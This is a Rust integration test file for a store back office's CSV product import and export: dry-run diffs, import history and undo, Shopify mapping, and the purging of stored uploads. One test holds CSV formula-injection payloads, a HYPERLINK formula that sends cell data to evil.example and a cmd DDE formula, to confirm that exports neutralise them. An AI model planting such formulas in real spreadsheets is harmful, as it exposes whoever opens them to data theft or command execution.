//! What a CSV import shows and keeps: the dry run's diff (and its download), the import
//! history, undoing an applied import, and a Shopify product export read through its mapping.

use reqwest::StatusCode;

use crate::common::{Client, Db, TestApp};
use crate::common::{HEADER, apply, catalog_csv, upload};

async fn download(client: &Client, path: &str) -> (StatusCode, String) {
    let response = client.http.get(client.url(path)).send().await.unwrap();
    (response.status(), response.text().await.unwrap())
}

/// The export's row of one SKU, by column.
async fn exported(client: &Client, sku: &str) -> Option<std::collections::HashMap<String, String>> {
    let (_, csv) = download(client, "/admin/products/export.csv").await;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    reader
        .records()
        .map(Result::unwrap)
        .find(|r| &r[16] == sku)
        .map(|r| {
            headers
                .iter()
                .zip(r.iter())
                .map(|(h, v)| (h.to_owned(), v.to_owned()))
                .collect()
        })
}

async fn the_dry_run_shows_each_change_and_an_import_can_be_undone(db: Db) {
    let app = TestApp::spawn(db).await;
    let owner = app.owner().await;
    let first = upload(&owner, &catalog_csv(3)).await;
    apply(&owner, &first)
        .await
        .assert_redirect_to("/admin/products");

    // The same file with Item 001 renamed and repriced, and one new (draft) product.
    let changed = catalog_csv(3)
        .replace("item-001,Item 001,", "item-001,Item 001 renamed,")
        .replace("ITEM-001-S,,11.50", "ITEM-001-S,,99.00")
        + "item-new,Brand new,,draft,,,,,,,,,,,,,NEW-1,,5.00,,,,true,false\n";
    let dry = upload(&owner, &changed).await;
    assert_eq!(dry.status, StatusCode::OK, "{}", dry.body);
    assert_eq!(dry.texts("#to-update"), vec!["1"]);
    assert_eq!(dry.texts("#to-create"), vec!["1"]);
    let rows = dry.texts("#change-rows tbody tr");
    assert!(
        rows.iter().any(|r| r.contains("title")
            && r.contains("Item 001")
            && r.contains("Item 001 renamed")),
        "{rows:?}"
    );
    assert!(
        rows.iter()
            .any(|r| r.contains("ITEM-001-S") && r.contains("$11.50") && r.contains("$99.00")),
        "{rows:?}"
    );
    assert!(
        rows.iter()
            .any(|r| r.contains("Brand new") && r.contains("New product"))
    );
    // Nothing else about Item 001 is listed: only what changes.
    assert_eq!(
        rows.iter().filter(|r| r.contains("Item 001")).count(),
        2,
        "{rows:?}"
    );
    let link = dry.attr("#import-changes a[download]", "href").unwrap();
    let (status, diff) = download(&owner, &link).await;
    assert_eq!(status, StatusCode::OK);
    let mut lines = diff.lines();
    assert_eq!(lines.next(), Some("handle,title,sku,field,before,after"));
    assert!(
        diff.contains("item-001,Item 001 renamed,ITEM-001-S,price,$11.50,$99.00"),
        "{diff}"
    );
    assert!(
        diff.contains("item-new,Brand new,,new product,,1"),
        "{diff}"
    );

    apply(&owner, &dry)
        .await
        .assert_redirect_to("/admin/products");
    assert_eq!(
        exported(&owner, "ITEM-001-S").await.unwrap()["price"],
        "99.00"
    );

    // The history: both uploads, what became of them, and the way to the undo.
    let history = owner.get("/admin/products/imports").await;
    assert_eq!(history.status, StatusCode::OK);
    let outcomes = history.texts("#import-history tbody tr");
    assert_eq!(outcomes.len(), 2, "{outcomes:?}");
    assert!(
        outcomes[0].contains("Applied: 1 created, 1 updated"),
        "{outcomes:?}"
    );
    assert!(
        outcomes[1].contains("Applied: 3 created, 0 updated"),
        "{outcomes:?}"
    );
    let set = history
        .attr(
            "#import-history tbody tr:first-child a[href^='/admin/products/changes/']",
            "href",
        )
        .unwrap();
    let page = owner.get(&set).await;
    assert_eq!(page.count("#change-items tbody tr"), 2, "{}", page.body);
    assert!(
        page.texts("#change-items tbody tr")
            .iter()
            .any(|r| r.contains("Changed: title, price"))
    );

    // Undo: asks first, then restores Item 001 and deletes the product the import created.
    let asked = owner.post_form(&format!("{set}/revert"), &page, &[]).await;
    assert!(asked.body.contains("Undo this import?"), "{}", asked.body);
    let undone = owner
        .post_form(&format!("{set}/revert"), &page, &[("confirmed", "yes")])
        .await;
    assert_eq!(undone.status, StatusCode::SEE_OTHER, "{}", undone.body);
    let after = owner.get(&set).await;
    assert!(
        after.texts(".flash-success")[0].contains("1 product the import had created was deleted"),
        "{:?}",
        after.texts(".flash-success")
    );
    let restored = exported(&owner, "ITEM-001-S").await.unwrap();
    assert_eq!(
        (restored["price"].as_str(), restored["title"].as_str()),
        ("11.50", "Item 001")
    );
    assert!(
        exported(&owner, "NEW-1").await.is_none(),
        "the created product is gone"
    );
    let history = owner.get("/admin/products/imports").await;
    assert!(history.texts("#import-history tbody tr")[0].contains("Undone"));
    assert_eq!(app.audit_count("catalog.bulk_edit_reverted"), 1);
}

async fn undoing_an_import_archives_what_went_on_sale_and_spares_later_edits(db: Db) {
    let app = TestApp::spawn(db).await;
    let owner = app.owner().await;
    // Two active products, created by the import: on sale from the start.
    let dry = upload(&owner, &catalog_csv(3).replace(",draft,", ",active,")).await;
    apply(&owner, &dry)
        .await
        .assert_redirect_to("/admin/products");
    let history = owner.get("/admin/products/imports").await;
    let set = history
        .attr(
            "#import-history a[href^='/admin/products/changes/']",
            "href",
        )
        .unwrap();
    // Someone archives Item 002 afterwards: the undo leaves it as it is.
    let list = owner.get("/admin/products?q=Item+002").await;
    let id = list.attr("input[name=ids]", "value").unwrap();
    let edit = owner.get(&format!("/admin/products/{id}")).await;
    let archived = owner
        .post_form(
            &format!("/admin/products/{id}/archive"),
            &edit,
            &[("confirmed", "yes")],
        )
        .await;
    assert!(archived.status.is_redirection(), "{}", archived.body);
    let page = owner.get(&set).await;
    owner
        .post_form(&format!("{set}/revert"), &page, &[("confirmed", "yes")])
        .await;
    let after = owner.get(&set).await;
    let flash = after.texts(".flash-success")[0].clone();
    assert!(
        flash.contains("Reverted 2 products") && flash.contains("Item 002"),
        "{flash}"
    );
    for sku in ["ITEM-000-S", "ITEM-001-S", "ITEM-002-S"] {
        assert_eq!(
            exported(&owner, sku).await.unwrap()["status"],
            "archived",
            "{sku}"
        );
    }
}

/// A Shopify export as Shopify writes it: product columns on the first row only, an image
/// row, the "Default Title" option, HTML descriptions, a variant without a SKU.
fn shopify_csv() -> String {
    let header = "Handle,Title,Body (HTML),Vendor,Product Category,Type,Tags,Published,Option1 Name,Option1 Value,Option2 Name,Option2 Value,Option3 Name,Option3 Value,Variant SKU,Variant Grams,Variant Inventory Tracker,Variant Inventory Qty,Variant Inventory Policy,Variant Fulfillment Service,Variant Price,Variant Compare At Price,Variant Requires Shipping,Variant Taxable,Variant Barcode,Image Src,Image Position,Image Alt Text,Gift Card,SEO Title,SEO Description,Variant Image,Variant Weight Unit,Cost per item,Status";
    [
        header.to_owned(),
        "linen-shirt,Linen Shirt,\"<p>Washed <strong>linen</strong>.</p><p>Relaxed &amp; cool.</p>\",Harbour Mills,Apparel,Shirts,\"linen, summer\",true,Size,S,,,,,LS-S,220,shopify,5,deny,manual,45.00,55.00,true,true,0123456789012,https://cdn.example/1.jpg,1,,false,Linen shirt,Cool linen,,g,18.00,active".into(),
        "linen-shirt,,,,,,,,,M,,,,,,240.0,shopify,3,continue,manual,47.00,,true,true,,,,,,,,,g,19.00,".into(),
        "linen-shirt,,,,,,,,,,,,,,,,,,,,,,,,,https://cdn.example/2.jpg,2,,,,,,,,".into(),
        "gift-wrap,Gift wrap,,Harbour Mills,,Extras,,true,Title,Default Title,,,,,,,,0,deny,manual,3.50,,true,true,,,,,false,,,,g,,draft".into(),
    ]
    .join("\n")
}

async fn a_shopify_export_imports_through_its_column_mapping(db: Db) {
    let app = TestApp::spawn(db).await;
    let owner = app.owner().await;
    let dry = upload(&owner, &shopify_csv()).await;
    assert_eq!(dry.status, StatusCode::OK, "{}", dry.body);
    assert_eq!(dry.texts("#to-create"), vec!["2"]);
    let note = dry.texts("#format-note")[0].clone();
    assert!(
        note.contains("Shopify")
            && note.contains("Image Src")
            && note.contains("Variant Inventory Qty"),
        "{note}"
    );
    apply(&owner, &dry)
        .await
        .assert_redirect_to("/admin/products");

    let s = exported(&owner, "LS-S").await.unwrap();
    assert_eq!(s["title"], "Linen Shirt");
    assert_eq!(s["description"], "Washed linen.\n\nRelaxed & cool.");
    assert_eq!(
        (s["vendor"].as_str(), s["product_type"].as_str()),
        ("Harbour Mills", "Shirts")
    );
    assert_eq!(
        (s["tags"].as_str(), s["status"].as_str()),
        ("linen, summer", "active")
    );
    assert_eq!(
        (s["option1_name"].as_str(), s["option1_value"].as_str()),
        ("Size", "S")
    );
    assert_eq!(
        (
            s["price"].as_str(),
            s["compare_at_price"].as_str(),
            s["cost"].as_str()
        ),
        ("45.00", "55.00", "18.00")
    );
    assert_eq!(
        (s["barcode"].as_str(), s["weight_grams"].as_str()),
        ("0123456789012", "220")
    );
    assert_eq!(
        (s["seo_title"].as_str(), s["allow_backorder"].as_str()),
        ("Linen shirt", "false")
    );
    // The variant without a SKU got one made from its handle and value.
    let (_, csv) = download(&owner, "/admin/products/export.csv").await;
    let m_row = csv.lines().find(|l| l.contains(",M,")).unwrap();
    assert!(
        m_row.contains("47.00") && m_row.contains(",240,") && m_row.ends_with("true,true"),
        "{m_row}"
    );
    // "Default Title" is a product without options.
    let wrap = csv.lines().find(|l| l.starts_with("gift-wrap")).unwrap();
    assert!(
        wrap.contains(",draft,") && !wrap.contains("Default Title"),
        "{wrap}"
    );

    // The same file again changes nothing: the made-up SKUs are the same each time.
    let again = upload(&owner, &shopify_csv()).await;
    assert_eq!(again.texts("#unchanged"), vec!["2"], "{}", again.body);
    // Our own format is still read as ours.
    let ours = upload(
        &owner,
        &format!("{HEADER}\nx,X,,,,,,,,,,,,,,,X-1,,1.00,,,,true,false\n"),
    )
    .await;
    assert_eq!(ours.count("#format-note"), 0);
}

crate::on_both_databases!(
    the_dry_run_shows_each_change_and_an_import_can_be_undone,
    undoing_an_import_archives_what_went_on_sale_and_spares_later_edits,
    a_shopify_export_imports_through_its_column_mapping,
    exports_neutralise_formulas_and_import_them_back_unchanged,
    stored_files_are_dropped_once_they_cannot_be_applied,
    a_products_rows_may_be_scattered_and_large_files_are_listed_in_part,
);

/// The plan reads the file a product at a time (memory follows one product, not the file);
/// rows of one product apart from each other are still one product, a SKU repeated on a
/// later product is named with its record, and the page lists the first 200 products while
/// the download has them all.
async fn a_products_rows_may_be_scattered_and_large_files_are_listed_in_part(db: Db) {
    let app = TestApp::spawn(db).await;
    let owner = app.owner().await;
    let row = |handle: &str, title: &str, size: &str, sku: &str| {
        format!("{handle},{title},,active,,,,,,,Size,{size},,,,,{sku},,5.00,,,,true,false\n")
    };
    let scattered = format!(
        "{HEADER}\n{}{}{}{}{}",
        row("item-a", "Item A", "S", "A-S"),
        row("item-b", "Item B", "S", "B-S"),
        row("ITEM-A", "Item A", "M", "A-M"),
        row("item-c", "Item C", "S", "B-S"),
        row("item-b", "Item B", "M", "B-M"),
    );
    let dry = upload(&owner, &scattered).await;
    assert_eq!(dry.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", dry.body);
    assert_eq!(
        dry.texts("#import-errors tbody tr"),
        vec!["5item-cB-SSKU B-S also appears on row 3."]
    );
    assert_eq!(dry.texts("#to-create"), vec!["2"]);
    assert!(dry.body.contains("4 variants"), "{}", dry.body);

    // Without the repeated SKU: two products of two variants each.
    let fixed = scattered.replace(&row("item-c", "Item C", "S", "B-S"), "");
    let dry = upload(&owner, &fixed).await;
    assert_eq!(dry.status, StatusCode::OK, "{}", dry.body);
    apply(&owner, &dry)
        .await
        .assert_redirect_to("/admin/products");
    for (sku, title) in [("A-S", "Item A"), ("A-M", "Item A"), ("B-M", "Item B")] {
        assert_eq!(exported(&owner, sku).await.unwrap()["title"], title);
    }
    assert_eq!(
        exported(&owner, "A-M").await.unwrap()["handle"],
        "item-a",
        "one product, under the handle first written"
    );

    // 230 products: the page lists 200 of them, the download all 230.
    let mut large = String::from(HEADER);
    large.push('\n');
    for i in 0..230 {
        large.push_str(&row(
            &format!("bulk-{i:03}"),
            "Bulk",
            "S",
            &format!("BULK-{i:03}"),
        ));
    }
    let dry = upload(&owner, &large).await;
    assert_eq!(dry.texts("#to-create"), vec!["230"]);
    assert_eq!(dry.count("#change-rows tbody tr"), 200);
    assert!(dry.body.contains("the first 200 of 230"), "{}", dry.body);
    let link = dry.attr("#import-changes a[download]", "href").unwrap();
    let (status, diff) = download(&owner, &link).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        diff.lines().filter(|l| l.contains("new product")).count(),
        230
    );
}

async fn exports_neutralise_formulas_and_import_them_back_unchanged(db: Db) {
    let app = TestApp::spawn(db).await;
    let owner = app.owner().await;
    let title = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let file = format!(
        "{HEADER}\nevil,\"{}\",\"=cmd|' /C calc'!A0\",draft,@Vendor,+Type,,,'=already quoted,-dash,,,,,,,EVIL-1,,12.50,,,,true,false\n",
        title.replace('"', "\"\"")
    );
    let dry = upload(&owner, &file).await;
    assert_eq!(dry.status, StatusCode::OK, "{}", dry.body);
    apply(&owner, &dry)
        .await
        .assert_redirect_to("/admin/products");

    let (_, exported) = download(&owner, "/admin/products/export.csv").await;
    let mut reader = csv::Reader::from_reader(exported.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[1], format!("'{title}"));
    assert_eq!(&row[2], "'=cmd|' /C calc'!A0");
    assert_eq!((&row[4], &row[5]), ("'@Vendor", "'+Type"));
    // A file's "'=" is read as a neutralised cell: the value is "=already quoted".
    assert_eq!((&row[8], &row[9]), ("'=already quoted", "'-dash"));
    // Amounts are numbers, written as they are.
    assert_eq!(&row[18], "12.50");
    // Importing the export changes nothing: the prefix comes off exactly once.
    let again = upload(&owner, &exported).await;
    assert_eq!(again.texts("#unchanged"), vec!["1"], "{}", again.body);
    let product = owner.get("/admin/products?q=EVIL-1").await;
    assert!(
        product.texts("tbody tr")[0].contains(title),
        "{:?}",
        product.texts("tbody tr")
    );

    // The audit log's export too: the product's title is a cell of it.
    let (_, audit) = download(&owner, "/admin/audit/export.csv").await;
    assert!(
        audit.contains(&format!("'{}", title.replace('"', "\"\""))),
        "{audit}"
    );
    assert!(
        !audit
            .lines()
            .any(|l| l.split(',').any(|cell| cell.starts_with('='))),
        "{audit}"
    );
}

/// An upload's file is kept only while it can be applied: dropped once applied, or after 24
/// hours unapplied; the history keeps the summary, and applying a dropped one says why.
async fn stored_files_are_dropped_once_they_cannot_be_applied(db: Db) {
    use backroom::db::schema::catalog_imports;
    use diesel::prelude::*;
    let app = TestApp::spawn(db).await;
    let owner = app.owner().await;
    let sizes = |app: &TestApp| -> Vec<usize> {
        app.with_db(|conn| {
            catalog_imports::table
                .order(catalog_imports::id.asc())
                .select(catalog_imports::content)
                .load::<String>(conn)
                .unwrap()
                .iter()
                .map(String::len)
                .collect()
        })
    };
    let applied = upload(&owner, &catalog_csv(2)).await;
    apply(&owner, &applied)
        .await
        .assert_redirect_to("/admin/products");
    let checked = upload(&owner, &catalog_csv(3)).await;
    let kept = sizes(&app);
    assert_eq!(kept[0], 0, "an applied file is dropped");
    assert!(kept[1] > 0, "a checked file is kept for Apply");

    // A day later, the next upload drops the file that was never applied.
    app.with_db(|conn| {
        let past = backroom::db::now() - chrono::Duration::hours(25);
        diesel::update(catalog_imports::table)
            .set(catalog_imports::created_at.eq(past))
            .execute(conn)
            .unwrap();
    });
    upload(&owner, &catalog_csv(4)).await;
    let after = sizes(&app);
    assert_eq!(after[1], 0, "{after:?}");
    assert!(after[2] > 0);
    let late = apply(&owner, &checked).await;
    assert_eq!(late.status, StatusCode::CONFLICT, "{}", late.body);
    assert!(late.body.contains("Upload the file again"));
    let history = owner.get("/admin/products/imports").await;
    assert_eq!(history.count("#import-history tbody tr"), 3);
    assert!(history.texts("#import-history tbody tr")[2].contains("Applied: 2 created"));
}
